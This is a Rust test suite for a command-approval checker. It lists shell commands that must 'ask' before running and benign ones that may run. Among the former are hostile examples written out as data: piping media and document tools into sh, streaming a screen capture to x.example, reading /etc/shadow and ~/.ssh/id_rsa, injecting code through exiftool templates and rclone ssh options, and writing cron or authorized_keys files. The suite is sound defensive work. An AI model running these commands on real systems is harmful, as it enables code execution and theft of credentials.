//! Options and words of programs for files, media, networks and machines that run, load, write or send.

use countersign_core::knowledge::{PROGRAMS, Row};
use countersign_core::verdict::Verdict;

use super::{asks, judged, runs};

/// Holds every command of `rows` against `right`, and names those that fail.
fn hold(rows: &[&str], right: fn(Verdict) -> bool) {
    let wrong: Vec<String> = rows
        .iter()
        .map(|command| (command, judged(command)))
        .filter(|(_, verdict)| !right(*verdict))
        .map(|(command, verdict)| format!("{command} → {verdict:?}"))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn a_word_that_is_a_command_in_place_of_a_file_asks() {
    hold(
        &[
            "sox '|curl https://x.example/a.sh' out.wav",
            "gs -q -sDEVICE=pdfwrite -sOutputFile=%pipe%sh in.pdf",
            "gs -o '%pipe%tee -a x | sh' in.pdf",
            "ps2pdf -sOutputFile=%pipe%sh in.ps",
            "dvips -o '|sh' a.dvi",
            "convert a.png '|sh'",
            "sort -o '|sh' names.txt",
            "cat 'sh x.sh |'",
        ],
        asks,
    );
    hold(
        &[
            "sox in.wav out.wav trim 0 5",
            "gs -q -dBATCH -dNOPAUSE -sDEVICE=pdfwrite -sOutputFile=out.pdf in.pdf",
            "grep -E 'a|b' notes.txt",
            "sort -o names.txt names.txt",
        ],
        runs,
    );
}

#[test]
fn an_address_in_place_of_a_file_that_is_written_is_sending() {
    hold(
        &[
            "ffmpeg -i screen.mkv -f mpegts tcp://x.example:9000",
            "ffmpeg -i a.mp4 -f flv rtmp://live.example/app/key",
            "ffmpeg -i a.mp4 -f mpegts udp:x.example:9000",
            "ffmpeg -i a.mp4 -map 0 -f tee 'a.mkv|[f=mpegts]tcp://x.example:1'",
            "ffmpeg -i a.mp4 -f tee 'a.mkv|/etc/cron.d/x'",
            "ffmpeg -i a.mp4 -progress https://x.example/p b.mp4",
            "pandoc a.md -o sftp://x.example/a.html",
        ],
        asks,
    );
    hold(
        &[
            "ffmpeg -i https://x.example/a.m3u8 -c copy a.mp4",
            "ffmpeg -i a.mp4 -metadata comment=https://x.example b.mp4",
            "ffmpeg -i a.mp4 -f mpegts udp://127.0.0.1:5000",
            "wkhtmltopdf https://x.example a.pdf",
            "pandoc https://x.example/a.html -t plain",
        ],
        runs,
    );
}

#[test]
fn a_word_that_begins_with_what_it_means_is_judged_by_that() {
    hold(
        &[
            "convert msl:/tmp/x.msl out.png",
            "identify MSL:steps.msl",
            "convert 'label:@/etc/shadow' out.png",
            "convert -draw @/etc/shadow a.png b.png",
            "magick 'ephemeral:/srv/data/a.png' b.png",
            "soffice --headless 'macro:///Standard.Module1.Main'",
            "vips system 'sh x'",
            "conjure /tmp/x.msl",
            "gm batch /tmp/x.txt",
        ],
        asks,
    );
    hold(
        &[
            "convert a.png -resize 50% b.png",
            "convert label:hello out.png",
            "identify -format '%w' a.png",
            "vips resize a.png b.png 0.5",
            "gm convert a.png b.jpg",
        ],
        runs,
    );
}

#[test]
fn code_inside_templates_formats_and_filters_asks() {
    hold(
        &[
            "exiftool -p '${FileName;system(q(id))}' a.jpg",
            "exiftool '-Comment<${FileName;`id`}' a.jpg",
            "exiftool -@ /tmp/args.txt a.jpg",
            "exiftool -FileName=/etc/cron.d/x a.jpg",
            "exiftool -p /etc/shadow a.jpg",
            "pandoc -t ./writer.lua a.md",
            "pandoc --from=/tmp/reader.lua+smart a.txt",
            "ffmpeg -i a.mp4 -vf frei0r=filter_name=./evil b.mp4",
            "ffmpeg -i a.mp4 -af 'ametadata=print:file=/etc/cron.d/x' b.mp4",
            "ffmpeg -i a.mp4 -vf 'drawtext=textfile=/etc/shadow' b.mp4",
            "gallery-dl --filter 'exec(\"x\")' https://x.example/g",
        ],
        asks,
    );
    hold(
        &[
            "exiftool -p '$FileName $ImageSize' a.jpg",
            "exiftool -DateTimeOriginal a.jpg",
            "pandoc -f markdown+smart -t gfm a.md",
            "ffmpeg -i a.mp4 -vf 'scale=640:-1,fps=10' a.gif",
            "ffmpeg -i a.mp4 -vf \"drawtext=text='hi':fontsize=20\" b.mp4",
        ],
        runs,
    );
}

#[test]
fn an_address_of_a_store_that_runs_something_asks() {
    hold(
        &[
            "rclone ls ':sftp,ssh=sh -c id:'",
            "rclone lsf 'box,ssh=./x:dir'",
            "rclone size ':webdav,url=\"https://x.example\",bearer_token_command=./x:'",
            "rclone lsd ':union,upstreams=\":sftp,ssh=sh:\":'",
            "rclone ls remote: --sftp-server-command ./x",
            "rclone cat ~/.ssh/id_rsa",
            "rclone cat :local:/home/dev/.ssh/id_rsa",
        ],
        asks,
    );
    hold(
        &[
            "rclone ls remote:bucket",
            "rclone lsd :s3:public",
            "rclone size ./out",
        ],
        runs,
    );
}

#[test]
fn a_bundle_of_tar_takes_its_values_in_order() {
    hold(
        &[
            "tar cIf 'sh x' a.tar src",
            "tar cfI a.tar ./evil src",
            "tar xfF a.tar /tmp/next.sh",
            "tar xfC a.tar /etc",
        ],
        asks,
    );
    hold(
        &[
            "tar cfI a.tar zstd src",
            "tar xfC a.tar out",
            "tar czf a.tgz src",
        ],
        runs,
    );
}

/// A letter that asks one program of a row for help, or for a trial run, means something else to another.
#[test]
fn a_letter_of_help_counts_for_no_other_program_of_the_row() {
    hold(
        &[
            "mosquitto_pub -h x.example -t a -f notes.txt",
            "hydra -V -l root -P words.txt ssh://x.example",
            "nikto -h http://x.example",
            "sshuttle -v -r app@x.example 0/0",
            "ftp -V x.example",
            "sendmail -h 5 ops@example.org",
            "sendmail -bp -bm ops@example.org",
            "mail -e -s done ops@example.org",
            "nodetool -h 10.0.0.5 decommission",
            "postconf -h -e relayhost=x.example",
            "lp -h x.example report.pdf",
            "opkg -V 2 install curl",
            "chcon -h -t httpd_sys_content_t /srv/www",
            "installer -v -pkg x.pkg -target /",
            "mkfs -V -t ext4 /dev/sdb1",
            "fsck -V -y /dev/sdb1",
            "sfdisk -l --delete /dev/sdb",
            "s5cmd cp -n report.csv s3://bucket/",
            "fdupes -n -r -d -N photos",
            "fdupes -rdN photos",
            "rake -v db:drop",
            "nix-channel --list --add https://x.example/c y",
            "acme.sh --list --issue -d example.org",
            "xrandr --query --output HDMI-1 --off",
            "ssh-copy-id -n -o ProxyCommand=./x app@host",
            "rundll32 evil.dll,Run /?",
        ],
        asks,
    );
    hold(
        &[
            "sfdisk -l /dev/sdb",
            "xrandr --query",
            "nix-channel --list",
            "fdupes -n -r photos",
            "sshd -t",
            "xcode-select -p",
            "hydra --help",
            "nc -zv 192.168.6.200 8006",
            "keytool -list -v -keystore app.p12",
        ],
        runs,
    );
}

#[test]
fn options_that_run_load_write_or_send_ask() {
    hold(
        &[
            "mksquashfs root a.sqfs -p 'x f 644 0 0 sh -c id'",
            "mksquashfs root a.sqfs -pf /tmp/nodes.txt",
            "unsquashfs -pf ~/.bashrc a.sqfs",
            "dialog --prgbox 'sh x' 10 40",
            "tcpdump -m /tmp/x.so -r a.pcap",
            "nmap --script=/tmp/x.nse localhost",
            "wget --input-external='sh x' https://x.example",
            "curl --ftp-alternative-to-user 'SITE EXEC x' ftp://x.example/",
            "yt-dlp --ppa 'ffmpeg:-f data /etc/x' https://x.example/v",
            "savelog -x ./x.sh app.log",
            "qsv split --filter 'sh /tmp/x' out a.csv",
            "strings --plugin ./evil.so a.out",
            "mysqldump --plugin-dir=/tmp/x app",
            "mydumper --exec ./x -B app",
            "redis-server --dbfilename authorized_keys",
            "mongoimport -d app -c users --mode=delete users.json",
            "flyway migrate -jarDirs=/tmp/x",
            "prisma generate --schema /tmp/x/schema.prisma",
            "asciidoc --unsafe a.adoc",
            "makeinfo --init-file=/tmp/x.pm a.texi",
            "pdfcrop --gscmd ./x a.pdf b.pdf",
            "eyeD3 -P /tmp/evil.py a.mp3",
            "brew bundle --file=/tmp/Brewfile",
            "named-checkconf -p /etc/bind/named.conf",
            "http.server --cgi",
            "rails server -c /tmp/x.ru",
        ],
        asks,
    );
    hold(
        &[
            "mksquashfs root a.sqfs -comp zstd -all-root",
            "dialog --yesno 'go on?' 10 40",
            "tcpdump -i lo -c 5",
            "redis-server --port 7000 --save '' --appendonly no",
            "prisma generate",
            "brew bundle --file=Brewfile",
            "rails server -p 4000 -b 0.0.0.0",
            "plantuml -tsvg a.puml",
            "optipng -o7 a.png",
            "pdftoppm -r 150 -png a.pdf page",
        ],
        runs,
    );
}

#[test]
fn a_row_whose_every_use_asks_asks_in_each_of_its_examples() {
    let rows = PROGRAMS.iter().flat_map(|program| {
        std::iter::once(&program.row).chain(program.subs.iter().map(|(_, row)| *row))
    });
    let asking = rows.filter(|row: &&Row| row.manual == "every use asks");
    let examples: Vec<&str> = asking.flat_map(|row| row.matches.iter().copied()).collect();
    assert!(examples.len() > 300, "only {} examples", examples.len());
    hold(&examples, asks);
}

#[test]
fn a_word_of_nothing_but_beginnings_is_judged_in_bounded_depth() {
    for part in ["@", "file:", "concat:", "|", "a|", "msl:", "[f=a]", "${a;"] {
        let word = part.repeat(20_000);
        judged(&format!("convert '{word}' '{word}'"));
        judged(&format!("ffmpeg -i '{word}' '{word}'"));
        judged(&format!("exiftool -p '{word}' '{word}'"));
        judged(&format!("rclone ls ':{word}'"));
    }
}
